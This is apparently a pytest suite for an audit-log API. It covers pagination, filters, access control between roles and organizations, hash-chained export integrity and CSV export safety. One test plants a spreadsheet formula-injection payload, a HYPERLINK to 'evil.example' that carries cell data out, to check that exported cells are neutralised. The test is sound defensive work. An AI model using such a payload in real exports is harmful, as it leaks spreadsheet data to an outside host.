"""`/api/audit`: admins read their own organization's trail, and nobody another's."""

from __future__ import annotations

import csv
import hashlib
import io
from typing import Any
from uuid import UUID

import orjson
import pytest

from audit import chain, trail
from audit.models import AuditEvent
from auterity.kernel.access import Role
from tests.api.people import Api, Person, colleague, refusal

pytestmark = pytest.mark.django_db


def noted(person: Person, *actions: str, **more: Any) -> None:
    for action in actions:
        trail.record("custom.thing", action, organization_id=person.actor.organization_id, actor=person.actor, **more)


def whole(answer: Any) -> bytes:
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def test_pages_follow_each_other_without_gaps_or_repeats(ann: Person) -> None:
    noted(ann, *(f"number {each}" for each in range(7)))
    seen: list[str] = []
    cursor, pages = "", 0
    while True:
        page = ann.api.get(f"/api/audit?event_type=custom.*&limit=3{cursor}").json()
        seen += [each["action"] for each in page["events"]]
        pages += 1
        if page["next_cursor"] is None:
            break
        cursor = f"&cursor={page['next_cursor']}"
        noted(ann, f"came meanwhile {pages}")
    assert seen == [f"number {each}" for each in range(6, -1, -1)]
    assert pages == 3


def test_filters_narrow(ann: Person) -> None:
    noted(ann, "one", severity="high", resource_type="workflow", resource_id="w1")
    noted(ann, "two", outcome="denied", address="203.0.113.9")
    asked = {
        "severity=high": ["one"],
        "outcome=denied": ["two"],
        "resource_type=workflow&resource_id=w1": ["one"],
        "address=203.0.113.9": ["two"],
        f"user_id={ann.actor.user_id}&event_type=custom.thing": ["two", "one"],
        "event_type=custom.other": [],
        "since=2999-01-01T00:00:00Z": [],
        "until=2000-01-01T00:00:00Z": [],
    }
    for query, wanted in asked.items():
        found = ann.api.get(f"/api/audit?{query}").json()["events"]
        assert [each["action"] for each in found] == wanted, query


def test_a_search_that_makes_no_sense_is_refused(api: Api) -> None:
    for query in ("limit=0", "limit=100000", "cursor=x", "outcome=maybe", "since=yesterday", "user_id=1", "action=%00"):
        assert api.get(f"/api/audit?{query}").status_code == 400, query


def test_only_who_may_reads_and_nobody_anothers(ann: Person, otto: Person, anyone: Api) -> None:
    noted(ann, "ours", severity="high")
    for role in (Role.MANAGER, Role.MEMBER, Role.VIEWER):
        person = colleague(ann, f"{role}@example.com", role)
        for path in ("/api/audit", "/api/audit/export"):
            refusal(person.api.get(path), 403, "AUTH_003")
    for path in ("/api/audit", "/api/audit/export"):
        assert anyone.get(path).status_code == 401
    ours = {each["id"] for each in ann.api.get("/api/audit").json()["events"]}
    assert ours
    foreign = otto.api.get(f"/api/audit?user_id={ann.actor.user_id}").json()["events"]
    assert foreign == []
    exported = whole(otto.api.get("/api/audit/export"))
    assert not any(each.encode() in exported for each in ours)
    cursor = otto.api.get(f"/api/audit?cursor={next(iter(ours))}").json()["events"]
    assert not ours & {each["id"] for each in cursor}


def test_an_export_can_be_checked_by_anybody(ann: Person) -> None:
    noted(ann, "one", "two", "three", details={"to": "x", "password": "planted"})
    chain.seal_all()
    answer = ann.api.get("/api/audit/export")
    lines = [orjson.loads(each) for each in whole(answer).splitlines()]
    assert answer.headers["Content-Disposition"] == 'attachment; filename="audit.ndjson"'
    before = "0" * 64
    for each in lines:
        told = {name: value for name, value in each.items() if name != "hash"}
        assert each["previous_hash"] == before
        before = hashlib.sha256(orjson.dumps(told, option=orjson.OPT_SORT_KEYS)).hexdigest()
        assert each["hash"] == before
    assert [each["sequence"] for each in lines] == list(range(1, len(lines) + 1))
    assert len(lines) >= 3
    assert AuditEvent.objects.of(ann.actor).filter(event_type="audit.exported").count() == 1


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", " ="])
def test_no_cell_of_a_csv_is_a_formula(ann: Person, begin: str) -> None:
    attack = f'{begin}HYPERLINK("http://evil.example/?x="&A1,"click")'
    noted(ann, attack, resource_type=attack, resource_id=attack, address=attack, user_agent=attack)
    rows = list(csv.DictReader(io.StringIO(whole(ann.api.get("/api/audit/export?format=csv")).decode(), newline="")))
    row = next(each for each in rows if "HYPERLINK" in each["action"])
    for name, cell in row.items():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert UUID(row["id"])


def test_a_request_leaves_its_id_and_address(ann: Person) -> None:
    whole(ann.api.get("/api/audit/export", X_Request_ID="trace-me-12345", User_Agent="Probe/1"))
    (event,) = ann.api.get("/api/audit?event_type=audit.exported").json()["events"]
    assert (event["request_id"], event["user_agent"]) == ("trace-me-12345", "Probe/1")
    assert event["path"] == "/api/audit/export"
    assert event["address"] == "127.0.0.1"
    assert event["kind"] == "user"
